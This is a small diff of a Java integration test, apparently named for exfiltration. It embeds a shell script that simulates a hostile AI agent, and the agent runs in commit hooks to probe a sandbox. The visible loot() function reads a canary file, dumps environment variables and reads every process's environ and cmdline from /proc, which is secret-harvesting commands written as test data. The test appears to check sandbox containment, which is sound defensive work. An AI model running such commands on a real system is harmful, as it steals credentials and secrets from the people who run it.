@@ -91,7 +91,7 @@ class ExfiltrationIT {
     /** Tries everywhere for what it should not see, and tells everybody. The hooks run when it commits, inside. */
     private static String hostileAgent() {
         return """
-                echo '# brief'; cat "$1"; echo '# end of brief'
+                echo '# brief'; cat "$1"; printf '\\n# end of brief\\n'
                 loot() {
                   cat %1$s/canary; ls -la %1$s; cat %1$s/*
                   env; cat /proc/*/environ | tr '\\000' '\\n'; cat /proc/*/cmdline | tr '\\000' '\\n'
